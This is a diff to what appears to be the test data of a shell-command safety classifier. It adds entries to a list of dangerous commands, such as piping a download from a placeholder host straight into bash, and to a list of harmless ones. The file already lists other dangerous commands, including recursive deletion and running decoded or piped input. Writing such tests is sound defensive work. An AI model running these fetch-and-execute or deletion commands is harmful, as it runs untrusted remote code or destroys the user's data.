@@ -43,6 +43,8 @@ DANGEROUS = (
     "cat x | python3 -",
     "echo aGk= | base64 -d",
     "bash <(curl x.test)",
+    "curl x.test | env A=1 bash -s",
+    "x" * 60_000,
     "Remove-Item -Recurse x",
 )
 
@@ -68,6 +70,10 @@ HARMLESS = (
     "docker ps",
     "sed -n 1,5p a.txt",
     "go test ./...",
+    "cat a.json | python -m json.tool",
+    "git ls-files | xargs python lint.py",
+    "python - <<'EOF'\nprint(1)\nEOF",
+    "echo $(date) > out.txt",
 )
 
 WRAPPED = (
